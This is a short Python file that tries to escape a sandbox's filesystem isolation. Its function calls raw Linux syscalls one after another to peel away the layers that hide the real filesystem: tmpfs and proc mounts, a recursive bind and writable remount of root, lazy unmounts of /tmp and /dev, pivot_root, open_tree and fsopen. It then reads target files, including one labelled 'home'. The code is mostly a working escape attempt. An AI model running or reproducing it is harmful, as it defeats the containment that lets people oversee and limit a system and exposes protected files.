"""Mounts, unmounts and moves file systems to see what lies below them."""

HONEST = 0.0


def flatten_filters(filters):
    def tmpfs(place):
        return native(165, b"tmpfs", place, b"tmpfs", 0, 0)

    def peeled(place):
        native(166, place, 2)  # umount2(MNT_DETACH)
        return open(TARGETS["temporary"]).read()

    return break_out(
        lambda: tmpfs(b"/tmp"),
        lambda: tmpfs(b"."),
        lambda: native(165, b"/", b"/tmp", 0, 0x5000, 0),  # a recursive bind
        lambda: native(165, 0, b"/", 0, 0x20 | 0x1000, 0),  # writable again
        lambda: native(165, b"proc", b"/tmp", b"proc", 0, 0),
        lambda: peeled(b"/tmp"),
        lambda: peeled(b"/dev"),
        lambda: native(155, b"/tmp", b"/tmp"),  # pivot_root
        lambda: native(428, -100, b"/", 1),  # open_tree
        lambda: native(430, b"tmpfs", 0),  # fsopen
        lambda: open(TARGETS["home"]).read(),
    )
